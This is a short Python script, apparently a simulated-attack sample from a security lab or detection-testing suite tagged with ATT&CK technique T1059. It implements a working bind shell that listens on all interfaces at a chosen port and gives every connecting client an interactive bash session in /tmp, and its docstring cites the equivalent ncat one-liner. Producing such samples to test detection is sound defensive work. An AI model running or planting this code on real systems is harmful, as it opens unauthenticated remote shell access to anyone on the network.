"""Malicious (T1059): a bind shell dropped in /tmp, waiting on a port; whoever connects gets bash on that socket.

Like ``ncat -lk -e /bin/bash``: the listener keeps its socket and hands each accepted connection to a bash as its
stdin/stdout/stderr.
"""

from __future__ import annotations

import socket
import subprocess
import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
from _common import lab_shell_home, parser, setup, ticks  # noqa: E402


def main() -> None:
    p = parser("bind shell")
    p.add_argument("--port", type=int, required=True)
    args = p.parse_args()
    deadline = setup(args)
    lab_shell_home()
    server = socket.create_server(("0.0.0.0", args.port), backlog=4)
    server.settimeout(1.0)
    shells: list[tuple[socket.socket, subprocess.Popen[bytes]]] = []
    try:
        for _ in ticks(deadline):
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            conn.settimeout(None)
            shells.append((conn, subprocess.Popen(["/bin/bash", "-i"], stdin=conn, stdout=conn, stderr=conn,
                                                  cwd="/tmp")))
    finally:
        for conn, shell in shells:
            shell.kill()
            conn.close()


if __name__ == "__main__":
    main()
